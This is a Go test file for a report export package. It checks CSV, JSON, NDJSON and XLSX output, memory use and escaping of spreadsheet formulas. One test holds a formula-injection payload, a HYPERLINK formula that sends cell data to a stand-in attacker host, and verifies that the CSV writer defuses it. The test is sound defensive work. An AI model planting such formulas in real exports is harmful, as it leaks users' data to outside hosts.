package export_test

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/parleyhq/parley/reports/export"
)

var columns = []string{"id", "note", "amount", "paid", "at", "metadata", "empty"}

// tricky is text every format must carry unchanged: separators, quotes,
// newlines, markup, non-ASCII.
const tricky = "Say \"hi\", then <b>&</b>;\nnext line — café 😀"

func rowsOf() [][]any {
	at := time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)
	return [][]any{
		{int64(1), tricky, "10.30", true, at, export.JSONText(`{"amount":"10.30","currency":"USD"}`), nil},
		{int64(2), "", "0.00", false, at.Add(time.Hour), export.JSONText(`{}`), nil},
	}
}

func write(t *testing.T, f export.Format, rows [][]any) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := export.New(&buf, f, columns)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Row(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestCSVRoundTrip(t *testing.T) {
	got, err := csv.NewReader(bytes.NewReader(write(t, export.CSV, rowsOf()))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 || strings.Join(got[0], ",") != strings.Join(columns, ",") {
		t.Fatalf("csv = %q; want the header and two rows", got)
	}
	want := []string{"1", tricky, "10.30", "true", "2026-03-01T09:30:00Z", `{"amount":"10.30","currency":"USD"}`, ""}
	if strings.Join(got[1], "|") != strings.Join(want, "|") {
		t.Errorf("row = %q; want %q", got[1], want)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	var arr []map[string]any
	if err := json.Unmarshal(write(t, export.JSON, rowsOf()), &arr); err != nil {
		t.Fatalf("not one JSON array: %v", err)
	}
	if len(arr) != 2 || arr[0]["note"] != tricky || arr[0]["id"] != 1.0 || arr[0]["paid"] != true || arr[0]["empty"] != nil {
		t.Errorf("json = %v", arr)
	}
	if meta, ok := arr[0]["metadata"].(map[string]any); !ok || meta["currency"] != "USD" {
		t.Errorf("metadata = %v; want the object embedded", arr[0]["metadata"])
	}
	var none []any
	if err := json.Unmarshal(write(t, export.JSON, nil), &none); err != nil || none == nil || len(none) != 0 {
		t.Errorf("no rows = %v, %v; want []", none, err)
	}

	sc := bufio.NewScanner(bytes.NewReader(write(t, export.NDJSON, rowsOf())))
	var lines []map[string]any
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		lines = append(lines, m)
	}
	if len(lines) != 2 || lines[0]["note"] != tricky || lines[1]["id"] != 2.0 {
		t.Errorf("ndjson = %v", lines)
	}
}

// sheet is what the test reads back of sheet1.xml.
type sheet struct {
	Rows []struct {
		R     int `xml:"r,attr"`
		Cells []struct {
			Ref   string `xml:"r,attr"`
			Type  string `xml:"t,attr"`
			Value string `xml:"v"`
			Text  string `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
}

func readXLSX(t *testing.T, b []byte) (map[string]string, sheet) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("not a zip: %v", err)
	}
	parts := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name] = string(body)
	}
	var s sheet
	if err := xml.Unmarshal([]byte(parts["xl/worksheets/sheet1.xml"]), &s); err != nil {
		t.Fatalf("sheet is not well-formed XML: %v", err)
	}
	return parts, s
}

func TestXLSXOpens(t *testing.T) {
	parts, s := readXLSX(t, write(t, export.XLSX, rowsOf()))
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"} {
		if err := xml.Unmarshal([]byte(parts[name]), new(struct{})); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	if !strings.Contains(parts["[Content_Types].xml"], `PartName="/xl/worksheets/sheet1.xml"`) {
		t.Errorf("content types do not name the sheet: %s", parts["[Content_Types].xml"])
	}
	if len(s.Rows) != 3 || len(s.Rows[0].Cells) != len(columns) || s.Rows[0].Cells[1].Text != "note" {
		t.Fatalf("sheet = %+v; want a header and two rows", s)
	}
	r := s.Rows[1]
	if r.R != 2 || r.Cells[0].Ref != "A2" || r.Cells[0].Value != "1" || r.Cells[0].Type != "" {
		t.Errorf("id cell = %+v; want the number 1 in A2", r.Cells[0])
	}
	if r.Cells[1].Text != tricky || r.Cells[1].Type != "inlineStr" {
		t.Errorf("note cell = %+v; want the text unchanged", r.Cells[1])
	}
	if r.Cells[3].Type != "b" || r.Cells[3].Value != "1" {
		t.Errorf("paid cell = %+v; want boolean true", r.Cells[3])
	}
	if len(r.Cells) != len(columns)-1 {
		t.Errorf("cells = %d; want the empty one left out", len(r.Cells))
	}
}

// TestExportMemoryIsFlat writes flatRows rows (200,000) in every format
// and checks that the heap after them is no larger than after the first
// tenth.
func TestExportMemoryIsFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("writes many rows per format")
	}
	for _, f := range []export.Format{export.CSV, export.JSON, export.NDJSON, export.XLSX} {
		t.Run(string(f), func(t *testing.T) {
			w, err := export.New(io.Discard, f, columns)
			if err != nil {
				t.Fatal(err)
			}
			row := rowsOf()[0]
			var early, late uint64
			for i := 1; i <= flatRows; i++ {
				row[0] = int64(i)
				if err := w.Row(row); err != nil {
					t.Fatal(err)
				}
				if i == flatRows/10 || i == flatRows {
					runtime.GC()
					var m runtime.MemStats
					runtime.ReadMemStats(&m)
					if i == flatRows/10 {
						early = m.HeapAlloc
					} else {
						late = m.HeapAlloc
					}
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			if late > early+1<<20 {
				t.Errorf("heap grew from %d to %d bytes between %d and %d rows", early, late, flatRows/10, flatRows)
			}
		})
	}
}

func TestParseFormat(t *testing.T) {
	for _, s := range []string{"csv", "xlsx", "json", "ndjson"} {
		if f, err := export.ParseFormat(s); err != nil || string(f) != s {
			t.Errorf("ParseFormat(%q) = %q, %v", s, f, err)
		}
	}
	if _, err := export.ParseFormat("pdf"); err == nil {
		t.Error("pdf accepted")
	}
}

// TestCSVFormulas: a Text cell that starts like a formula (= + - @ tab
// CR) gets a leading ' in CSV, so that a spreadsheet shows it instead of
// running it; plain strings (a phone in E.164, an amount) are written as
// they are, and the other formats write Text unchanged.
func TestCSVFormulas(t *testing.T) {
	cols := []string{"body", "name", "note", "phone", "amount", "tab", "cr", "plus", "inner", "empty"}
	attack := `=HYPERLINK("http://attacker.example/?x="&A1,"Click")`
	row := []any{export.Text(attack), export.Text("@SUM(A1)"), export.Text("-2 degrees"), "+14155550100", "-10.30",
		export.Text("\t=1+1"), export.Text("\r=1+1"), export.Text("+1 call me"), export.Text("x =1+1"), export.Text("")}
	var buf bytes.Buffer
	w, err := export.New(&buf, export.CSV, cols)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Row(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil || len(got) != 2 {
		t.Fatalf("csv = %q, %v", got, err)
	}
	want := []string{"'" + attack, "'@SUM(A1)", "'-2 degrees", "+14155550100", "-10.30",
		"'\t=1+1", "'\r=1+1", "'+1 call me", "x =1+1", ""}
	for i, c := range cols {
		if got[1][i] != want[i] {
			t.Errorf("%s = %q; want %q", c, got[1][i], want[i])
		}
	}

	var arr []map[string]any
	buf.Reset()
	if w, err = export.New(&buf, export.JSON, cols); err != nil {
		t.Fatal(err)
	}
	if err := w.Row(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(buf.Bytes(), &arr); err != nil || len(arr) != 1 || arr[0]["body"] != attack || arr[0]["name"] != "@SUM(A1)" {
		t.Errorf("json = %s, %v; want Text unchanged", buf.Bytes(), err)
	}
}
